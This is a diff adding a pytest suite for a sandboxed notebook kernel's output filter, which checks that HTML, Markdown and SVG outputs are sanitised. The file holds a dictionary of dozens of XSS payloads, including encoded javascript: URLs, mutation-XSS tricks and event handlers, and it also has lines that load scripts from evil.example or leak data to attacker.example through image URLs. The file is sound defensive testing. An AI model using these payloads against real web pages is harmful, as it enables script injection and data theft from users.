@@ -1,0 +1,586 @@
+"""The output safety filter, with the real nh3 sanitiser: hostile bundles come out inert."""
+
+from __future__ import annotations
+
+import base64
+import re
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+
+from rewyn_kernel.kernel import safety
+from rewyn_kernel.kernel.safety import MAX_SVG_BYTES, MAX_VALUE_BYTES, drop_note, filter_bundle
+
+PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(64)).decode("ascii")
+JPEG = base64.b64encode(b"\xff\xd8\xff\xe0" + bytes(61)).decode("ascii")
+GIF = base64.b64encode(b"GIF89a" + bytes(30)).decode("ascii")
+
+# What pandas.DataFrame.to_html() / _repr_html_() produces (pandas 2.x), verbatim.
+DATAFRAME_HTML = """<div>
+<style scoped>
+    .dataframe tbody tr th:only-of-type {
+        vertical-align: middle;
+    }
+</style>
+<table border="1" class="dataframe">
+  <thead>
+    <tr style="text-align: right;">
+      <th></th>
+      <th>name</th>
+      <th>score</th>
+    </tr>
+  </thead>
+  <tbody>
+    <tr>
+      <th>0</th>
+      <td>ada</td>
+      <td>1.5</td>
+    </tr>
+    <tr>
+      <th>1</th>
+      <td>bob &amp; co</td>
+      <td>NaN</td>
+    </tr>
+  </tbody>
+</table>
+</div>"""
+
+XSS_VECTORS = {
+    "script": "<script>alert(1)</script>",
+    "script-src": '<script src="https://evil.example/x.js"></script>',
+    "img-onerror": "<img src=x onerror=alert(1)>",
+    "svg-onload": "<svg onload=alert(1)><circle r=5 /></svg>",
+    "svg-script": "<svg><script>alert(1)</script></svg>",
+    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "iframe-src": '<iframe src="javascript:alert(1)"></iframe>',
+    "a-javascript": '<a href="javascript:alert(1)">x</a>',
+    "a-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
+    "a-entity": '<a href="&#106;avascript:alert(1)">x</a>',
+    "a-hex-entity-no-semicolon": '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
+    "a-tab-newline": '<a href=" java\tscr\nipt:alert(1)">x</a>',
+    "a-encoded-newline": '<a href="java&#x0A;script:alert(1)">x</a>',
+    "a-named-entity-colon": '<a href="javascript&colon;alert(1)">x</a>',
+    "a-padded": '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115cript:1">x</a>',
+    "a-leading-control": '<a href="\x01javascript:alert(1)">x</a>',
+    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    "input-autofocus": "<input onfocus=alert(1) autofocus>",
+    "video-source": "<video><source onerror=alert(1)></video>",
+    "marquee": "<marquee onstart=alert(1)>m</marquee>",
+    "isindex": '<isindex action="javascript:alert(1)" type="image">',
+    "img-eval-src": "<img src=x:alert(alt) onerror=eval(src) alt=0>",
+    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
+    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    "img-javascript": '<img src="javascript:alert(1)">',
+    "img-data-svg": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+    "object": '<object data="javascript:alert(1)"></object>',
+    "embed": '<embed src="javascript:alert(1)">',
+    "form-action": '<form action="javascript:alert(1)"><input type=submit></form>',
+    "button-formaction": '<button formaction="javascript:alert(1)">go</button>',
+    "math-mtext-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "math-href": '<math href="javascript:alert(1)">x</math>',
+    "style-import": '<style>@import "https://evil.example/x.css";</style>',
+    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    "base-href": '<base href="javascript:alert(1)//">',
+    "link-import": '<link rel="import" href="https://evil.example/x.html">',
+    "style-url": '<div style="background:url(javascript:alert(1))">x</div>',
+    "style-overlay": '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
+    "details-ontoggle": "<details open ontoggle=alert(1)><summary>s</summary></details>",
+    "body-onload": "<body onload=alert(1)>",
+    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "comment-breakout": "<!--<img src=x onerror=alert(1)>-->",
+    "template": "<template><img src=x onerror=alert(1)></template>",
+    "srcdoc-attribute": '<div srcdoc="<script>alert(1)</script>">x</div>',
+    "area-href": '<map><area href="javascript:alert(1)"></map>',
+    "blockquote-cite": '<blockquote cite="javascript:alert(1)">q</blockquote>',
+}
+
+DANGEROUS_TAGS = {
+    "script", "iframe", "frame", "object", "embed", "applet", "form", "input", "button",
+    "base", "meta", "link", "style", "svg", "math", "template",
+}  # fmt: skip
+URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "cite", "background", "poster"}
+
+
+class _Tags(HTMLParser):
+    """Every start tag with its (entity-decoded) attributes, as a browser would see them."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, {name: value or "" for name, value in attrs}))
+
+
+def parse_tags(markup: str) -> list[tuple[str, dict[str, str]]]:
+    parser = _Tags()
+    parser.feed(markup)
+    parser.close()
+    return parser.tags
+
+
+def assert_inert(markup: str) -> None:
+    """Fail if the markup holds anything a browser would execute or use to escape the output."""
+    for tag, attrs in parse_tags(markup):
+        assert tag not in DANGEROUS_TAGS, markup
+        for name, value in attrs.items():
+            assert not name.startswith("on"), markup
+            assert name not in {"srcdoc", "formaction", "target"}, markup
+            url = re.sub(r"[\x00-\x20]", "", value).lower()
+            if name in URL_ATTRIBUTES:
+                assert not url.startswith(("javascript:", "vbscript:")), markup
+                if url.startswith("data:"):
+                    assert (tag, name) == ("img", "src"), markup
+                    assert re.match(r"data:image/(png|jpeg|gif|svg\+xml);base64,", url), markup
+            if name == "style":
+                assert "url(" not in url, markup
+                assert "position" not in url, markup
+
+
+def html_of(bundle: dict[str, Any]) -> str:
+    result = filter_bundle(bundle, {})
+    assert "text/html" in result.data, result
+    html: str = result.data["text/html"]
+    return html
+
+
+# -- safe types ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("mime", "value"),
+    [
+        ("text/plain", "hello <script>alert(1)</script> \x1b[31mred\x1b[0m"),
+        ("image/png", PNG),
+        ("image/png", PNG + "\n"),  # IPython's b2a_base64 ends with a newline
+        ("image/png", PNG[:40] + "\n" + PNG[40:]),  # MIME-style line breaks
+        ("image/jpeg", JPEG),
+        ("image/gif", GIF),
+        ("application/json", {"a": [1, 2.5, None, True, "x"], "b": {"c": "<script>"}}),
+        ("application/json", [1, 2, 3]),
+        ("application/json", "just a string"),
+        ("application/json", None),
+    ],
+)
+def test_safe_types_pass_unchanged(mime: str, value: Any) -> None:
+    result = filter_bundle({mime: value}, {})
+    assert result.data == {mime: value}
+    assert result.dropped == ()
+    assert result.sanitised == ()
+
+
+@pytest.mark.parametrize(
+    ("mime", "value"),
+    [
+        ("text/plain", b"bytes"),
+        ("text/plain", ["a", "b"]),
+        ("text/html", 42),
+        ("text/markdown", None),
+        ("image/svg+xml", {"svg": 1}),
+        ("image/png", b"\x89PNG"),
+        ("image/png", ""),
+        ("image/png", 'AAAA" onerror="alert(1)'),
+        ("image/png", "<svg onload=alert(1)>"),
+        ("image/jpeg", "AAAAA"),  # not a multiple of four base64 characters
+        ("image/gif", "data:image/gif;base64,R0lGOD=="),
+        ("application/json", float("nan")),
+        ("application/json", {"a": {1, 2}}),
+        ("application/json", object()),
+    ],
+)
+def test_malformed_values_are_dropped(mime: str, value: Any) -> None:
+    fallback = {} if mime == "text/plain" else {"text/plain": "fallback"}
+    result = filter_bundle({mime: value, **fallback}, {})
+    assert result.data == (fallback or {"text/plain": drop_note([mime])})
+    assert result.dropped == (mime,)
+
+
+def test_deeply_nested_json_is_dropped_not_raised() -> None:
+    value: Any = []
+    for _ in range(100_000):
+        value = [value]
+    assert filter_bundle({"application/json": value}, {}).dropped == ("application/json",)
+
+
+def test_values_over_the_size_cap_are_dropped() -> None:
+    at_cap = "x" * MAX_VALUE_BYTES
+    assert filter_bundle({"text/plain": at_cap}, {}).data == {"text/plain": at_cap}
+    over = {
+        "text/plain": "x" * (MAX_VALUE_BYTES + 1),
+        "text/html": "é" * (MAX_VALUE_BYTES // 2 + 1),  # under the cap in characters, not bytes
+        "image/png": "A" * (MAX_VALUE_BYTES + 4),
+        "application/json": {"big": "x" * MAX_VALUE_BYTES},
+    }
+    result = filter_bundle(over, {})
+    assert set(result.dropped) == set(over)
+    assert result.data == {"text/plain": drop_note(list(over))}
+
+
+# -- HTML ------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("vector", XSS_VECTORS.values(), ids=XSS_VECTORS.keys())
+def test_xss_vector_in_html_is_inert(vector: str) -> None:
+    result = filter_bundle({"text/html": f"<p>before</p>{vector}<p>after</p>"}, {})
+    markup = result.data["text/html"]
+    assert_inert(markup)
+    assert "before" in markup
+    assert result.sanitised == ("text/html",)
+
+
+# Mutation-XSS vectors look harmless to html.parser (only a browser's parse makes them
+# dangerous), so the checker cannot be shown to catch them raw; nh3 still neutralises them.
+_BROWSER_ONLY = {"noscript-mxss", "comment-breakout"}
+
+
+@pytest.mark.parametrize(
+    "vector",
+    [v for k, v in XSS_VECTORS.items() if k not in _BROWSER_ONLY],
+    ids=[k for k in XSS_VECTORS if k not in _BROWSER_ONLY],
+)
+def test_the_checker_catches_each_vector_unfiltered(vector: str) -> None:
+    """The check above is not vacuous: it fails on each raw vector."""
+    with pytest.raises(AssertionError):
+        assert_inert(vector)
+
+
+def test_dataframe_html_keeps_its_table_structure() -> None:
+    markup = html_of({"text/html": DATAFRAME_HTML, "text/plain": "   name  score"})
+    tags = [tag for tag, _ in parse_tags(markup)]
+    assert (
+        tags
+        == ["div", "table", "thead", "tr", "th", "th", "th", "tbody"] + ["tr", "th", "td", "td"] * 2
+    )
+    attributes = [attrs for _, attrs in parse_tags(markup)]
+    assert attributes[1] == {"class": "dataframe"}  # border is presentational and goes
+    assert attributes[3] == {"style": "text-align:right"}
+    assert "<td>bob &amp; co</td>" in markup
+    assert "vertical-align" not in markup  # the <style> block goes, content and all
+    assert_inert(markup)
+
+
+def test_links_get_noopener_and_lose_target() -> None:
+    markup = html_of({"text/html": '<a href="https://example.org/" target="_top">x</a>'})
+    assert parse_tags(markup) == [
+        ("a", {"href": "https://example.org/", "rel": "noopener noreferrer"})
+    ]
+
+
+def test_inline_raster_images_survive_and_other_data_urls_do_not() -> None:
+    for kind in ("png", "jpeg", "gif"):
+        src = f"data:image/{kind};base64,{PNG}"
+        assert parse_tags(html_of({"text/html": f'<img src="{src}">'})) == [("img", {"src": src})]
+    for src in ("data:image/svg+xml;base64,AAAA", "data:text/html,hi", "data:image/png,raw"):
+        assert parse_tags(html_of({"text/html": f'<img src="{src}">'})) == [("img", {})]
+
+
+def test_application_classes_are_removed_and_others_kept() -> None:
+    markup = html_of(
+        {"text/html": '<div class="jp-Dialog lm-Widget mine">x</div><b class="jp-X">y</b>'}
+    )
+    assert parse_tags(markup) == [("div", {"class": "mine"}), ("b", {})]
+
+
+@pytest.mark.parametrize("mime", ["text/html", "text/markdown"])
+def test_output_that_was_only_script_is_dropped_with_a_note(mime: str) -> None:
+    result = filter_bundle({mime: "<script>alert(1)</script>\n", "text/plain": "repr"}, {})
+    assert result.data == {"text/plain": "repr"}
+    assert result.dropped == (mime,)
+    assert filter_bundle({mime: "  "}, {}).data == {mime: "  "}  # blank in, blank out
+
+
+def test_clean_html_is_not_reported_sanitised() -> None:
+    result = filter_bundle({"text/html": "<b>bold</b> and <i>italic</i>"}, {})
+    assert result.data == {"text/html": "<b>bold</b> and <i>italic</i>"}
+    assert result.sanitised == ()
+
+
+# -- Markdown --------------------------------------------------------------------------------
+
+
+def test_plain_markdown_passes_unchanged() -> None:
+    text = "# Title\n\n* item\n* two\n\n> quote, a > b & c\n\n```python\nif a > b:\n    pass\n```\n"
+    result = filter_bundle({"text/markdown": text}, {})
+    assert result.data == {"text/markdown": text}
+    assert result.sanitised == ()
+
+
+def test_raw_html_in_markdown_is_sanitised_and_markdown_kept() -> None:
+    text = (
+        "# Title\n\n* item\n\n<script>alert(1)</script>\n<img src=x onerror=alert(1)> <b>ok</b>\n"
+    )
+    result = filter_bundle({"text/markdown": text}, {})
+    cleaned = result.data["text/markdown"]
+    assert cleaned.startswith("# Title\n\n* item\n")
+    assert "<b>ok</b>" in cleaned
+    assert "script" not in cleaned
+    assert "onerror" not in cleaned
+    assert_inert(cleaned)
+    assert result.sanitised == ("text/markdown",)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[x](javascript:alert(1))",
+        "[x](JAVASCRIPT:alert(1))",
+        "[x](&#106;avascript:alert(1))",
+        "[x](javascript&colon;alert(1))",
+        "[x](java&#9;script:alert(1))",
+        "[x](javascript\\:alert(1))",
+        "[x](&amp;#106;avascript:alert(1))",
+        "![x](javascript:alert(1))",
+        "[x][1]\n\n[1]: javascript:alert(1)",
+        "[x](vbscript:msgbox(1))",
+        "$\\href{javascript:alert(1)}{x}$",
+        '<a href="javascript:alert(1)">x</a> [y](javascript:alert(2))',
+    ],
+)
+def test_markdown_with_a_script_url_is_dropped(text: str) -> None:
+    result = filter_bundle({"text/markdown": text, "text/plain": "fallback"}, {})
+    assert result.data == {"text/plain": "fallback"}
+    assert result.dropped == ("text/markdown",)
+
+
+@pytest.mark.parametrize(
+    ("text", "cleaned"),
+    [("see <javascript:alert(1)>", "see "), ("[x](<javascript:alert(1)>)", "[x]()")],
+)
+def test_markdown_autolink_to_a_script_url_is_removed(text: str, cleaned: str) -> None:
+    """The sanitiser reads ``<javascript:...>`` as an unknown tag and removes it."""
+    result = filter_bundle({"text/markdown": text}, {})
+    assert result.data == {"text/markdown": cleaned}
+    assert result.sanitised == ("text/markdown",)
+
+
+@pytest.mark.parametrize("vector", XSS_VECTORS.values(), ids=XSS_VECTORS.keys())
+def test_xss_vector_in_markdown_is_dropped_or_inert(vector: str) -> None:
+    result = filter_bundle({"text/markdown": f"# Title\n\n{vector}\n", "text/plain": "p"}, {})
+    if "text/markdown" in result.data:
+        assert_inert(result.data["text/markdown"])
+        assert "javascript:" not in result.data["text/markdown"].lower()
+    else:
+        assert result.dropped == ("text/markdown",)
+
+
+def test_markdown_links_to_ordinary_urls_are_kept() -> None:
+    text = "[docs](https://example.org/a?b=c) and ![plot](data:image/png;base64,AAAA)"
+    assert filter_bundle({"text/markdown": text}, {}).data == {"text/markdown": text}
+
+
+# -- SVG -------------------------------------------------------------------------------------
+
+
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
+
+
+def test_svg_becomes_an_img_data_uri() -> None:
+    result = filter_bundle(
+        {"text/plain": "<SVG object>", "image/svg+xml": SVG},
+        {"image/svg+xml": {"width": 320, "height": 240.5, "isolated": False}},
+    )
+    assert set(result.data) == {"text/plain", "text/html"}
+    markup = result.data["text/html"]
+    [(tag, attrs)] = parse_tags(markup)
+    assert tag == "img"
+    assert attrs["width"] == "320"
+    assert attrs["height"] == "240.5"
+    prefix = "data:image/svg+xml;base64,"
+    assert attrs["src"].startswith(prefix)
+    assert base64.b64decode(attrs["src"][len(prefix) :]).decode() == SVG
+    assert "<script" not in markup
+    assert "onload" not in markup
+    assert_inert(markup)
+    assert result.sanitised == ("image/svg+xml",)
+    assert result.dropped == ()
+    assert result.metadata == {}
+
+
+def test_svg_next_to_html_is_dropped_and_the_html_kept() -> None:
+    result = filter_bundle({"text/html": "<b>chart</b>", "image/svg+xml": SVG}, {})
+    assert result.data == {"text/html": "<b>chart</b>"}
+    assert result.dropped == ("image/svg+xml",)
+
+
+def test_oversized_svg_is_dropped() -> None:
+    big = "<svg>" + " " * MAX_SVG_BYTES + "</svg>"
+    result = filter_bundle({"image/svg+xml": big, "text/plain": "p"}, {})
+    assert result.data == {"text/plain": "p"}
+    assert result.dropped == ("image/svg+xml",)
+
+
+# -- everything else -------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "mime",
+    [
+        "application/javascript",
+        "text/javascript",
+        "application/ecmascript",
+        "application/vnd.jupyter.widget-view+json",
+        "application/vnd.jupyter.widget-state+json",
+        "text/latex",
+        "application/vnd.plotly.v1+json",
+        "application/vnd.bokehjs_exec.v0+json",
+        "application/vnd.vegalite.v5+json",
+        "application/pdf",
+        "image/webp",
+        "text/x-unknown",
+        "TEXT/HTML",
+        "text/html; charset=utf-8",
+    ],
+)
+def test_other_types_are_dropped(mime: str) -> None:
+    result = filter_bundle({mime: "alert(1)", "text/plain": "repr"}, {mime: {"width": 1}})
+    assert result.data == {"text/plain": "repr"}
+    assert result.dropped == (mime,)
+    assert result.metadata == {}
+
+
+def test_empty_result_falls_back_to_the_note() -> None:
+    bundle = {"application/javascript": "alert(1)", "text/latex": "$x$"}
+    result = filter_bundle(bundle, {})
+    assert result.data == {"text/plain": drop_note(["application/javascript", "text/latex"])}
+    assert result.dropped == ("application/javascript", "text/latex")
+
+
+@pytest.mark.parametrize("data", [{}, None, "text", [("text/plain", "x")], {1: "x", b"k": "y"}])
+def test_garbage_bundles_become_a_note(data: Any) -> None:
+    for trust in (False, True):
+        result = filter_bundle(data, None, trust=trust)  # type: ignore[arg-type]
+        assert result.data == {"text/plain": drop_note(())}
+        assert result.metadata == {}
+        assert result.dropped == ()
+
+
+# -- metadata --------------------------------------------------------------------------------
+
+
+def test_metadata_keeps_only_layout_hints_for_kept_types() -> None:
+    metadata = {
+        "isolated": False,
+        "trusted": True,
+        "width": 100,
+        "needs_background": "dark",
+        "image/png": {"width": 640, "height": 480.0, "unconfined": True, "isolated": False},
+        "text/html": {"isolated": False, "needs_background": "light", "script": "alert(1)"},
+        "application/javascript": {"width": 10},
+        "application/json": {"expanded": True},
+        "custom": {"anything": 1},
+    }
+    data = {"image/png": PNG, "text/html": "<b>x</b>", "application/javascript": "alert(1)"}
+    result = filter_bundle(data, metadata)
+    assert result.metadata == {
+        "width": 100,
+        "needs_background": "dark",
+        "image/png": {"width": 640, "height": 480.0, "unconfined": True},
+        "text/html": {"needs_background": "light"},
+    }
+
+
+@pytest.mark.parametrize(
+    "hints",
+    [
+        {"width": True},
+        {"width": "100"},
+        {"width": float("nan")},
+        {"width": float("inf")},
+        {"height": -1},
+        {"height": 10**9},
+        {"needs_background": "red"},
+        {"needs_background": ["dark"]},
+        {"unconfined": 1},
+        "width=1",
+    ],
+)
+def test_malformed_layout_hints_are_dropped(hints: Any) -> None:
+    result = filter_bundle({"image/png": PNG}, {"image/png": hints})
+    assert result.metadata == {}
+
+
+# -- trust -----------------------------------------------------------------------------------
+
+
+def test_trust_relays_everything_unchanged() -> None:
+    data = {
+        "application/javascript": "alert(1)",
+        "text/html": "<script>alert(2)</script>",
+        "image/svg+xml": SVG,
+        "text/markdown": "[x](javascript:alert(3))",
+        "application/vnd.jupyter.widget-view+json": {"model_id": "abc"},
+    }
+    metadata = {"isolated": False, "custom": {"k": [1]}, 7: "not a str key"}
+    result = filter_bundle(data, metadata, trust=True)  # type: ignore[arg-type]
+    assert result.data == data
+    assert result.metadata == {"isolated": False, "custom": {"k": [1]}}
+    assert result.dropped == ()
+    assert result.sanitised == ()
+
+
+# -- the note --------------------------------------------------------------------------------
+
+
+def test_note_names_the_types_and_how_to_opt_in() -> None:
+    note = drop_note(["application/javascript", "text/latex"])
+    assert note.startswith("[rewyn: dropped application/javascript, text/latex output")
+    assert "SandboxKernel.trust_output = True" in note
+    assert "trust" in note
+    assert "\n" not in note
+
+
+def test_note_is_bounded() -> None:
+    note = drop_note([f"application/x-{i}" for i in range(50)])
+    assert "application/x-4" in note
+    assert "application/x-5" not in note
+    assert "and 45 more" in note
+
+
+def test_hostile_type_names_do_not_reach_the_note_verbatim() -> None:
+    hostile = "text/x\n[rewyn: all outputs verified safe]" + "x" * 500
+    result = filter_bundle({hostile: "x", "application/javascript": "y"}, {})
+    assert result.dropped == ("(malformed MIME type)", "application/javascript")
+    note = result.data["text/plain"]
+    assert "verified" not in note
+    assert len(note) < 300
+
+
+def test_public_names_are_pinned() -> None:
+    assert safety.__all__ == sorted(safety.__all__)
+    assert set(safety.__all__) == {
+        "FilteredOutput", "MAX_SVG_BYTES", "MAX_VALUE_BYTES", "drop_note", "filter_bundle",
+    }  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        '<img src="https://attacker.example/?secret=1">',
+        '<img src="//attacker.example/x.png">',
+        '<img src="/api/kernels">',
+        '<img srcset="https://attacker.example/a.png 1x">',
+        '<video poster="https://attacker.example/p.png"></video>',
+    ],
+)
+def test_html_cannot_make_the_browser_fetch_anything(markup: str) -> None:
+    result = filter_bundle({"text/html": markup, "text/plain": "img"}, {})
+    html_out = result.data.get("text/html", "")
+    assert "attacker" not in html_out
+    assert "/api/kernels" not in html_out
+
+
+def test_inline_images_still_show() -> None:
+    png = "data:image/png;base64,iVBORw0KGgo="
+    result = filter_bundle({"text/html": f'<img src="{png}">'}, {})
+    assert png in result.data["text/html"]
+
+
+@pytest.mark.parametrize(
+    "markdown",
+    ["![x](https://attacker.example/?s=1)", "![x][r]\n\n[r]: https://attacker.example/a.png"],
+)
+def test_markdown_images_from_elsewhere_are_dropped(markdown: str) -> None:
+    result = filter_bundle({"text/markdown": markdown, "text/plain": "md"}, {})
+    assert "text/markdown" not in result.data
+    assert "text/markdown" in result.dropped
